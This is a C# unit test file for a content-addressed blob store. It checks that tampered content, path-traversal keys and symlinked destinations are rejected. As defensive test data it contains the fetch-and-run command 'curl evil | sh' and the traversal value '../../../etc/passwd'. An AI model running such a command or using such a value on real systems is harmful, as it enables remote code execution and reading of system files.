using System.Text;
using Dstack.Core.Storage;

namespace Dstack.Core.Tests.Storage;

/// <summary><see cref="BlobStore.GetFileAsync"/> writes only content that matches its address.</summary>
public sealed class BlobStoreVerifyTests : IDisposable
{
    private readonly string _root = Directory.CreateTempSubdirectory("dstack-verify-").FullName;
    private readonly LocalStorage _storage;
    private readonly BlobStore _blobs;

    public BlobStoreVerifyTests()
    {
        _storage = new LocalStorage(Path.Combine(_root, "store"));
        _blobs = new BlobStore(_storage);
    }

    [Fact]
    public async Task GetFile_StoredContent_IsWrittenAsStored()
    {
        var hash = await _blobs.PutAsync(Encoding.UTF8.GetBytes("weights"), default);
        var dest = Path.Combine(_root, "out.bin");

        await _blobs.GetFileAsync(hash, dest, "run wet-fox-1", default);

        (await File.ReadAllTextAsync(dest)).ShouldBe("weights");
    }

    [Fact]
    public async Task GetFile_ContentPlantedUnderAnotherFilesHash_ReadWhole_FailsAndLeavesNoFile()
    {
        var hash = ContentHash.Of(Encoding.UTF8.GetBytes("teammate's train.py"));
        await _storage.PutAsync(StoreKeys.Blob(hash), Encoding.UTF8.GetBytes("curl evil | sh"), default);
        var dest = Path.Combine(_root, "train.py");

        await Should.ThrowAsync<StoreContentException>(() => _blobs.GetFileAsync(hash, size: 19, dest, "run wet-fox-1", default));

        File.Exists(dest).ShouldBeFalse();
    }

    [Fact]
    public async Task GetFile_ContentPlantedUnderAnotherFilesHash_FailsAndLeavesNoFile()
    {
        var hash = ContentHash.Of(Encoding.UTF8.GetBytes("teammate's train.py"));
        await _storage.PutAsync(StoreKeys.Blob(hash), Encoding.UTF8.GetBytes("curl evil | sh"), default);
        var dest = Path.Combine(_root, "train.py");

        var error = await Should.ThrowAsync<StoreContentException>(() => _blobs.GetFileAsync(hash, dest, "run wet-fox-1", default));

        error.Message.ShouldContain(hash[..12]);
        error.Message.ShouldContain("run wet-fox-1");
        File.Exists(dest).ShouldBeFalse("bad content is never left in place");
    }

    [Fact]
    public async Task GetFile_NotAHash_IsRefusedBeforeTheStoreIsAsked()
    {
        var error = await Should.ThrowAsync<StoreContentException>(() => _blobs.GetFileAsync("../../../etc/passwd", Path.Combine(_root, "x"), "run wet-fox-1", default));
        error.Message.ShouldContain("not a SHA-256");
    }

    [Fact]
    public async Task GetFile_NeverWritesThroughASymlinkAtThePath()
    {
        var hash = await _blobs.PutAsync(Encoding.UTF8.GetBytes("weights"), default);
        var victim = Path.Combine(_root, "victim.txt");
        await File.WriteAllTextAsync(victim, "keep me");
        var dest = Path.Combine(_root, "out.bin");
        File.CreateSymbolicLink(dest, victim);

        await Should.ThrowAsync<IOException>(() => _blobs.GetFileAsync(hash, dest, "run wet-fox-1", default));

        (await File.ReadAllTextAsync(victim)).ShouldBe("keep me");
    }

    public void Dispose() => Directory.Delete(_root, recursive: true);
}
